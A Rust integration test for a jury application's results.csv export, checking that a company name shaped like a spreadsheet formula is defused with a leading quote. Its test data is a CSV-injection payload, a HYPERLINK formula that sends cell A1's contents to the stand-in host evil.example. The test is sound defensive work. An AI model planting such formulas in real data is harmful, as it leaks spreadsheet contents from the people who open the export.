//! Exports open in spreadsheets: a start-up's name that looks like a formula reaches
//! results.csv as text, as it does applications.csv (issue 17, item 3).

use crate::common::TestApp;

#[actix_web::test]
async fn a_formula_in_a_company_name_is_text_in_results_csv() {
    let app = TestApp::new().await;
    let admin = app.admin().await;
    let j = app.published(&admin, 2).await;
    let id = j.applications[0].1;
    app.db(move |c| {
        use diesel::prelude::*;
        use jury::db::schema::applications;
        diesel::update(applications::table.find(id))
            .set(applications::company_name.eq("=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"))
            .execute(c)?;
        Ok(())
    })
    .await;
    let res = app
        .get(&format!("/api/v1/rounds/{}/results.csv", j.round))
        .by(&admin)
        .await;
    assert_eq!(res.status, 200, "{}", res.text);
    assert!(
        res.text.contains("'=HYPERLINK("),
        "the formula is defused: {}",
        res.text
    );
    assert!(
        !res.text.contains(",=HYPERLINK(") && !res.text.contains(",\"=HYPERLINK("),
        "no cell starts with the formula: {}",
        res.text
    );
}
